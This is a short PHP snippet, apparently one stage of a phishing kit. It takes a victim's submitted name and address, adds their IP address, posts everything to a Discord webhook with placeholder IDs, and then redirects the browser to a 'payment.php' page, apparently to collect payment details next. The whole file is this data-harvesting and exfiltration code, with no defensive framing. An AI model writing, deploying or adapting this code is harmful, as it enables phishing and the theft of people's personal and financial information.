<?php
// the same step posting to a Discord webhook, the browser then sent on by script
$data = "Name: {$_POST['name']}\nAddress: {$_POST['address']}\nIP: {$_SERVER['REMOTE_ADDR']}";
$ch = curl_init('https://discord.com/api/webhooks/123456/abcdef');
curl_setopt($ch, CURLOPT_POST, 1);
curl_setopt($ch, CURLOPT_HTTPHEADER, array('Content-Type: application/json'));
curl_setopt($ch, CURLOPT_POSTFIELDS, json_encode(array('content' => $data)));
curl_exec($ch);
echo "<script>window.location.href = 'payment.php';</script>";
